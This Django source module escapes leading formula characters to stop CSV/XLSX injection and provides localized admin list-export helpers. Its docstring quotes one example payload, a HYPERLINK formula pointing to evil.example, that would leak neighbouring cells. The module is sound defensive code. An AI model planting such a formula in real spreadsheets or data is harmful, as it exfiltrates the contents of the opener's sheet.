"""Spreadsheet exports that cannot carry formulas.

A cell that starts with =, +, -, @, a tab or a carriage return is run as a formula by Excel and
LibreOffice, so a commune could title its request `=HYPERLINK("http://evil.example/?"&C3)` and
leak the neighbouring cells of whoever opens the export. Every such text cell gets a leading
apostrophe (OWASP's advice): the spreadsheet shows it as text and the value stays readable.
django-import-export's own setting only drops a leading "=", so every admin export uses these
formats instead (settings.EXPORT_FORMATS, and a test checks each admin that exports).
"""

import datetime
from decimal import Decimal

from django.utils import timezone, translation
from django.utils.encoding import force_str
from django.utils.text import capfirst, slugify
from django.utils.translation import gettext
from django_countries.fields import Country, CountryField
from import_export import fields, resources
from import_export.admin import ExportMixin
from import_export.formats import base_formats
from import_export.forms import SelectableFieldsExportForm

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def escape_formula(value):
    """The value as it may go into a spreadsheet cell: text that could start a formula is
    prefixed with an apostrophe; anything else is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def escape_dataset(dataset) -> None:
    """Escape every cell of a tablib dataset in place."""
    rows = [[escape_formula(cell) for cell in row] for row in dataset]
    headers = [escape_formula(h) for h in dataset.headers] if dataset.headers else None
    dataset.wipe()
    if headers:
        dataset.headers = headers
    for row in rows:
        dataset.append(row)


class FormulaSafeMixin:
    def export_data(self, dataset, **kwargs):
        escape_dataset(dataset)
        return super().export_data(dataset, **kwargs)


class SafeCSV(FormulaSafeMixin, base_formats.CSV):
    pass


class SafeXLSX(FormulaSafeMixin, base_formats.XLSX):
    pass


EXPORT_FORMATS = [SafeCSV, SafeXLSX]


# --- List exports: the admin's lists as spreadsheets, in the reader's language ------------------


def cell(value):
    """A value as a list export writes it, in the active language and time zone: display texts
    for choices (the caller reads them), country names, yes/no, ISO dates (YYYY-MM-DD; a moment
    as YYYY-MM-DD HH:MM in the reader's time zone), several values joined with "; " (country
    names may hold commas); numbers stay numbers."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return gettext("yes") if value else gettext("no")
    if isinstance(value, datetime.datetime):
        return timezone.localtime(value).strftime("%Y-%m-%d %H:%M")
    if isinstance(value, datetime.date):
        return value.isoformat()
    if isinstance(value, Country):
        return str(value.name)
    if isinstance(value, (int, float, Decimal, str)):
        return value
    if isinstance(value, (list, tuple)):
        return "; ".join(str(cell(item)) for item in value)
    return str(value)


def column(label, read):
    """A column of a list export: its header (translated when the file is written) and the
    function that reads its value from an object."""
    return fields.Field(column_name=label, dehydrate_method=read, readonly=True)


def _reader(field):
    name = field.name
    if field.many_to_many:
        return lambda obj: [str(item) for item in getattr(obj, name).all()]
    if field.choices and not isinstance(field, CountryField):
        return lambda obj: getattr(obj, f"get_{name}_display")()
    return lambda obj: getattr(obj, name)


def field_column(model, name, *, read=None):
    """A column under a model field's verbose name, showing the field: a choice as its display
    text, a country as its name, a many-to-many field as the names of its objects (prefetch
    them); or what ``read`` reads."""
    field = model._meta.get_field(name)
    return column(field.verbose_name, read or _reader(field))


class ListExport(resources.Resource):
    """A list of the admin as a spreadsheet: fixed columns in the order they are declared,
    headers and values in the reader's language. Reads one query per table, whatever the
    number of rows: a subclass names the relations its columns read in ``select`` (joined) and
    ``prefetch``."""

    select: tuple = ()
    prefetch: tuple = ()

    @classmethod
    def get_display_name(cls):
        # Beside another export of the same list (e.g. a format to import again), this one is
        # named for what it is.
        return gettext("List with the columns in your language")

    def export_field(self, field, instance, **kwargs):
        return cell(super().export_field(field, instance, **kwargs))

    def get_export_headers(self, selected_fields=None):
        return [capfirst(force_str(f.column_name)) for f in self.get_export_fields(selected_fields)]

    def filter_export(self, queryset, **kwargs):
        # The list's own prefetches go (they may clash with these): the export reads what its
        # columns declare.
        queryset = queryset.prefetch_related(None).prefetch_related(*self.prefetch)
        return queryset.select_related(*self.select) if self.select else queryset

    def iter_queryset(self, queryset):
        # import-export pages through a queryset with prefetches (a count and a query per page
        # of 100 and table); the admin's lists hold tens of thousands of rows at most (20,000
        # experts in the benchmark data), so read them at once.
        return iter(queryset)


class ListExportForm(SelectableFieldsExportForm):
    """The export page's choice of columns, each named by its header."""

    def _get_field_label(self, resource, field_name):
        field = resource.fields.get(field_name)
        return capfirst(field.column_name) if field else field_name


class ListExportMixin(ExportMixin):
    """For a ModelAdmin whose list (with its filters, search and order) can be exported."""

    export_formats = EXPORT_FORMATS
    export_form_class = ListExportForm

    def get_export_filename(self, request, queryset, file_format):
        # In English whatever the reader's language: header values must be ASCII.
        with translation.override("en"):
            name = slugify(self.model._meta.verbose_name_plural)
        return f"{name}-{timezone.localdate().isoformat()}.{file_format.get_extension()}"
